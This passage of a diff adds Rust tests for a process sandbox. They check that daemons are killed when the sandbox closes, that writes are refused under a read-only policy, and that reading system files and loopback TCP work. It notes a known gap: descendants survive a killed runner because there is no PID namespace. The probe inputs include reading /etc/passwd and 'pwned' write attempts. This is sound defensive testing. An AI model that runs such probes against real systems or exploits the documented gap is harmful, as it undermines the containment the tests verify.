+                let ppid = stat.get(stat.rfind(')').unwrap_or(0) + 1..).unwrap_or("");
+                let ppid = ppid.split_whitespace().nth(1).unwrap_or("?").to_string();
+                format!("{pid} ({}) now a child of {ppid}", cmdline.trim())
+            })
+            .collect()
+    })
+    .await
+    .unwrap()
+}
+
+#[tokio::test]
+#[ignore = "no PID namespace yet: after SIGKILL of the runner, the launching `sh` dies (parent-death signal) \
+            but its descendants survive, re-parented to pid 1: both the setsid'ed double-forked `sleep 300` \
+            and the shell's plain foreground `sleep 300` (the parent-death signal is not inherited across \
+            fork, and no subreaper is left above them)"]
+async fn a_daemon_does_not_survive_the_runner_being_killed() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) =
+            confined("a_daemon_does_not_survive_the_runner_being_killed", dirs.policy()).await
+        else {
+            return;
+        };
+        let (mut process, daemon, tree) = start_daemon(&sandbox, &dirs).await;
+        kill(Pid::from_raw(sandbox.info().pid as i32), Signal::SIGKILL).unwrap();
+        sandbox.closed().await;
+        assert!(process.wait().await.is_err(), "the runner is gone");
+        let survivors = survivors(&tree).await;
+        assert!(
+            survivors.is_empty(),
+            "processes outlived the SIGKILLed runner (daemon {daemon}; killed now): {survivors:#?}"
+        );
+    })
+    .await
+}
+
+#[tokio::test]
+async fn dropping_the_sandbox_kills_a_daemon() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("dropping_the_sandbox_kills_a_daemon", dirs.policy()).await else {
+            return;
+        };
+        let (_process, daemon, tree) = start_daemon(&sandbox, &dirs).await;
+        drop(sandbox);
+        let survivors = survivors(&tree).await;
+        assert!(
+            survivors.is_empty(),
+            "processes outlived the closed sandbox (daemon {daemon}; killed now): {survivors:#?}"
+        );
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Positive controls
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn writing_the_workspace_and_tmpdir_works() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("writing_the_workspace_and_tmpdir_works", dirs.policy()).await else {
+            return;
+        };
+        let script = "echo made > made.txt && echo temp > \"$TMPDIR/temp.txt\" && mkdir -p sub/dir \
+                      && mv made.txt sub/dir/ && ln -s sub/dir link && ln sub/dir/made.txt hard.txt \
+                      && echo more >> link/made.txt && mktemp > /dev/null";
+        assert_ok(&sandbox.run(dirs.sh(script)).await.unwrap());
+        assert_eq!(fs::read_to_string(dirs.workspace.join("sub/dir/made.txt")).unwrap(), "made\nmore\n");
+        assert_eq!(fs::read_to_string(dirs.workspace.join("hard.txt")).unwrap(), "made\nmore\n");
+        assert_eq!(fs::read_to_string(dirs.tmp.join("temp.txt")).unwrap(), "temp\n");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn reading_everywhere_works_under_read_only() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let policy = PolicyBuilder::new(Preset::ReadOnly).cwd(&dirs.workspace).build().unwrap();
+        let Some(sandbox) = confined("reading_everywhere_works_under_read_only", policy).await else {
+            return;
+        };
+        let system = ["/etc/hostname", "/etc/passwd"].into_iter().find(|p| Path::new(p).exists()).unwrap();
+        let out = sandbox.run(dirs.command("cat").arg(system)).await.unwrap();
+        assert_eq!(out.stdout, fs::read(system).unwrap());
+        let out = sandbox.run(dirs.sh("ls /usr/bin | wc -l; cat \"$OUT/keep.txt\"")).await.unwrap();
+        let text = assert_ok(&out);
+        let (count, rest) = text.split_once('\n').unwrap();
+        assert!(count.trim().parse::<usize>().unwrap() > 10, "{text}");
+        assert_eq!(rest, "original\n");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn tcp_to_a_loopback_listener_works_with_the_network_on() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port().to_string();
+        // With the network on there is no network namespace: the sandbox's
+        // loopback is the machine's.
+        let policy = dirs.workspace_write().network(true).build().unwrap();
+        let Some(sandbox) = confined("tcp_to_a_loopback_listener_works_with_the_network_on", policy).await
+        else {
+            return;
+        };
+        let code = "
+            import os, socket
+            s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), timeout=5)
+            s.sendall(b'hello from the sandbox')
+            s.close()
+            print('connected')
+        ";
+        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
+        assert_eq!(assert_ok(&out), "connected\n");
+        listener.set_nonblocking(true).unwrap();
+        let (mut stream, _) = listener.accept().expect("the connection is waiting");
+        stream.set_nonblocking(false).unwrap();
+        stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+        let mut received = String::new();
+        stream.read_to_string(&mut received).unwrap();
+        assert_eq!(received, "hello from the sandbox");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn writing_the_working_directory_is_refused_under_read_only() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let policy = PolicyBuilder::new(Preset::ReadOnly).cwd(&dirs.workspace).build().unwrap();
+        let before = snapshot(&dirs.workspace);
+        let Some(sandbox) =
+            confined("writing_the_working_directory_is_refused_under_read_only", policy).await
+        else {
+            return;
+        };
+        for script in ["echo pwned > file.txt", "mkdir dir", "ln -s /etc link", "echo pwned > \"$TMPDIR/x\""]
+        {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EACCES]);
+        }
+        // Devices stay writable.
+        assert_ok(&sandbox.run(dirs.sh("echo fine > /dev/null")).await.unwrap());
+        assert_unchanged(&dirs.workspace, &before);
+    })
+    .await
+}
